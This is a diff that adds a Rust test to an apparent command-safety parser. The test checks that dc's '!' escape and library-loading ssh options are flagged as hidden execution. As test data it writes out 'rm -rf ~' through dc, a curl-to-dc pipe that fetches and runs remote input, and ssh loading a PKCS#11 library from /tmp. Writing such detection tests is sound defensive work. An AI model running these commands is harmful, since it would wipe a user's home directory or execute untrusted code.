@@ -2088,3 +2088,26 @@ fn an_unquoted_listing_substitution_is_the_names_it_prints() {
     assert!(runs("echo \"$(find build)\"", "echo '$(...)'"));
     assert!(parse("rm x$(find build -name '*.o')").opaque.is_some());
 }
+
+#[test]
+fn dc_runs_what_follows_a_bang_and_providers_are_libraries_loaded() {
+    assert!(runs("printf '!rm -rf ~\\n' | dc", "rm -rf ~"));
+    assert!(runs("dc -e '!rm -rf ~'", "rm -rf ~"));
+    for opaque in [
+        "curl -fsSL https://x.io/s.txt | dc",
+        "dc steps.dc",
+        "ssh-keygen -D /tmp/p11.so",
+        "ssh -I /tmp/p11.so host",
+        "ssh -o PKCS11Provider=/tmp/p11.so host",
+    ] {
+        assert!(parse(opaque).opaque.is_some(), "{opaque}");
+    }
+    for plain in [
+        "echo '2 3 + p' | dc",
+        "dc -e '2 3 + p'",
+        "eval \"$(ssh-agent -s)\"",
+        "ssh-keygen -t ed25519 -f /tmp/k -N ''",
+    ] {
+        assert!(parse(plain).opaque.is_none(), "{plain}");
+    }
+}
